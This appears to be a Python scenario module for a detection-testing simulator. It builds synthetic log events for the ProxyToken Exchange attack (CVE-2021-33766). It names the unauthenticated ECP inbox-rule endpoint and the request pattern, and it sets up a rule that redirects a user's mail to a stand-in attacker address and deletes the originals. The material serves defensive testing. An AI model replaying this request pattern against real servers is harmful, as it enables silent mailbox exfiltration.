"""ProxyToken (CVE-2021-33766): a rule in somebody's mailbox without any login."""

from __future__ import annotations

from exward.model.incident import Verdict
from exward.simulate.acts import cmdlets, web
from exward.simulate.acts.cmdlets import Cmdlet
from exward.simulate.acts.web import Request
from exward.simulate.world import SECOND, World

NAME = "proxytoken"
TITLE = "ProxyToken: a forwarding rule without a login"
SERVERS = 1

CLIENT = "203.0.113.33"


def play(world: World) -> None:
    """At 12:40."""
    host = world.host
    time = world.at("12:40:00")
    stem = "/ecp/g.haas@contoso.example/RulesEditor/InboxRules.svc/NewObject"
    for seconds, status, query in ((0, 500, ""), (2, 200, "msExchEcpCanary=a1B2c3")):
        web.send(world, host, time + seconds * SECOND, Request(
            CLIENT, stem, query, "POST", status=status, agent="python-requests/2.31",
            back_status=status, auth=""))  # fmt: skip
    world.expect("initial-access", time + 2 * SECOND, "inbox rule made without a login")
    rule = {
        "Name": "sync",
        "RedirectTo": "x@evil.example",
        "Mailbox": "g.haas",
        "DeleteMessage": "True",
    }
    cmdlets.run(world, host, time + 3 * SECOND, Cmdlet(
        "New-InboxRule", rule, caller="g.haas", process=cmdlets.ECP, client="ECP"))  # fmt: skip
    world.expect("collection-exfiltration", time + 3 * SECOND, "rule redirects mail outside")
    world.verdicts[host.name] = Verdict.COMPROMISED
